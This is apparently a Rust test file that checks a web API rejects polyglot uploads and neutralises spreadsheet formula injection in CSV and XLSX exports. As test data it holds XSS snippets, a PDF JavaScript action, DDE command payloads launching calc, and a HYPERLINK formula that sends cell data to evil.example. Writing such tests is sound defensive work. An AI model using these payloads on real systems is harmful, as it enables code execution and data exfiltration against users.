//! Files that are two things at once, and cells that are formulas.

use std::io::{Cursor, Read as _, Write as _};

use reqwest::Method;
use serde_json::{Value, json};
use uuid::Uuid;
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use crate::common::{Somebody, TOWN, Town, code, need, told};

const PATH: &str = "/api/v1/procedures/R8-0001.1/uploads";
const SCRIPT: &[u8] = b"<html><body onload=alert(1)><script>alert(1)</script></body></html>";

async fn upload(who: &Somebody<'_>, name: &str, content: Vec<u8>) -> (u16, Value) {
    let path = format!("{PATH}?document=alignment-record&name={name}");
    told(who.request(Method::POST, &path).body(content)).await
}

fn archive(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A file that begins as something else than its name says is not taken, whatever is in it besides: a page
/// that is a document further on, a drawing with a script, an archive behind a picture. One that begins as it
/// says is taken as what it says, and comes back as that alone: as an attachment, its type not guessed, in a
/// sandbox without scripts.
#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_is_two_things_is_never_the_other_one() {
    let town = Town::new().await;
    town.open_case().await;
    let officer = town.as_(TOWN, "u-0001").await;
    let pdf: &[u8] =
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n";
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
    let zip = archive(&[("a.txt", b"x")]);
    for (name, content) in [
        ("a.pdf", [SCRIPT, pdf].concat()),
        ("a.pdf", [b" \n<!DOCTYPE html>".as_slice(), pdf].concat()),
        ("a.png", [svg.as_slice(), png].concat()),
        ("a.svg", svg.to_vec()),
        ("a.jpg", [b"GIF89a".as_slice(), SCRIPT].concat()),
        ("a.pdf", zip.clone()),
        ("a.xlsx", [png, &zip].concat()),
        ("a.docx", archive(&[("index.html", SCRIPT), ("[Content_Types].xml", b"<x/>")])),
        ("a.txt", [b"<!DOCTYPE html>".as_slice(), SCRIPT].concat()),
        ("a.csv", SCRIPT.to_vec()),
        ("a.pdf.html", pdf.to_vec()),
        ("a.html%00.pdf", pdf.to_vec()),
        ("a.pdf.", pdf.to_vec()),
    ] {
        let (status, problem) = upload(&officer, name, content).await;
        assert!(
            status == 422 && ["type-mismatch", "bad-input"].contains(&code(&problem)),
            "{name}: {problem}"
        );
    }
    assert_eq!(officer.get(PATH).await.1, json!({"uploads": []}));
    for (name, content, media) in [
        ("a.pdf", [pdf, SCRIPT].concat(), "application/pdf"),
        ("b.pdf", [pdf, &zip].concat(), "application/pdf"),
        ("a.png", [png, SCRIPT].concat(), "image/png"),
        ("a.txt", [b"a\n".as_slice(), SCRIPT].concat(), "text/plain"),
    ] {
        let (status, kept) = upload(&officer, name, content.clone()).await;
        assert_eq!((status, &kept["media"]), (201, &json!(media)), "{name}: {kept}");
        let file = format!("{PATH}/{}", kept["sha256"].as_str().unwrap());
        let answer = officer.request(Method::GET, &file).header("accept", "text/html").send().await.unwrap();
        let says = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
        assert!(says("content-disposition").starts_with("attachment"), "{name}");
        assert_eq!(says("x-content-type-options"), "nosniff");
        assert_eq!(says("content-security-policy"), "sandbox; default-src 'none'");
        assert!(!says("content-type").contains("html") && !says("content-type").contains("svg"), "{name}");
        assert_eq!(answer.bytes().await.unwrap(), content);
    }
    town.stands().await;
}

/// What a spreadsheet calculates, calls or opens.
const FORMULAS: [&str; 10] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "　=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(A1)",
];

/// What leaves as a table, asked for by a way of its own.
async fn taken(who: &Somebody<'_>, path: &str, (media, body): (&str, String)) -> Vec<u8> {
    let request = who.request(Method::POST, path).header("idempotency-key", Uuid::new_v4().to_string());
    let answer = request.header("content-type", media).body(body).send().await.unwrap();
    assert_eq!(answer.status().as_u16(), 200, "{path}");
    answer.bytes().await.unwrap().to_vec()
}

/// The cells of a table by RFC 4180, every one of them in quotes.
fn cells(table: &str) -> Vec<String> {
    let (mut cells, mut rest) = (Vec::new(), table.trim_start_matches('\u{feff}'));
    while let Some(quoted) = rest.strip_prefix('"') {
        let mut end = 0;
        loop {
            end += quoted[end..].find('"').unwrap();
            if quoted[end + 1..].starts_with('"') {
                end += 2;
            } else {
                break;
            }
        }
        cells.push(quoted[..end].replace("\"\"", "\""));
        rest = quoted[end + 1..].trim_start_matches([',', '\r', '\n']);
    }
    assert!(rest.is_empty(), "a cell without quotes: {rest}");
    cells
}

/// A text that a spreadsheet would take for a formula leaves the house as a text: in the tables of a case and
/// of a list, as CSV with an apostrophe before it and as a workbook without a formula.
#[tokio::test(flavor = "multi_thread")]
async fn no_cell_of_what_leaves_is_a_formula() {
    let town = Town::new().await;
    let officer = town.as_(TOWN, "u-0001").await;
    for formula in FORMULAS {
        let mut facts = need();
        for name in ["title", "owner_section", "issue"] {
            facts[name] = json!(format!("{formula}"));
        }
        let (status, done) = officer.post("/api/v1/cases", &json!({ "facts": facts })).await;
        assert_eq!(status, 201, "{done}");
    }
    let mut found = 0;
    let beginnings = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r'];
    let mut all = String::new();
    for nth in 1..=FORMULAS.len() {
        let path = format!("/api/v1/cases/R8-{nth:04}/exports");
        let asked = |format: &str| json!({"format": format, "purpose": "監査"}).to_string();
        let table = taken(&officer, &path, ("application/json", asked("csv"))).await;
        all.push_str(std::str::from_utf8(&table).unwrap().trim_start_matches('\u{feff}'));
        let book = taken(&officer, &path, ("application/json", asked("xlsx"))).await;
        let mut book = ZipArchive::new(Cursor::new(book)).unwrap();
        for at in 0..book.len() {
            let mut part = String::new();
            book.by_index(at).unwrap().read_to_string(&mut part).unwrap();
            assert!(!part.contains("<f>") && !part.contains("<f ") && !part.contains("hyperlink"), "{part}");
        }
    }
    let chosen: Vec<String> = (1..=FORMULAS.len()).map(|nth| format!("procedure=R8-{nth:04}%2F1")).collect();
    let form = ("application/x-www-form-urlencoded", chosen.join("&"));
    all.push_str(
        std::str::from_utf8(&taken(&officer, "/cases/take", form).await)
            .unwrap()
            .trim_start_matches('\u{feff}'),
    );
    for cell in cells(&all) {
        let is_number = cell.parse::<i64>().is_ok();
        assert!(is_number || !cell.trim_start().starts_with(beginnings) && !cell.starts_with('\t'), "{cell}");
        found += usize::from(cell.starts_with('\'') && FORMULAS.iter().any(|one| cell.contains(one.trim())));
    }
    assert!(found >= 2 * FORMULAS.len(), "{found}");
    town.stands().await;
}
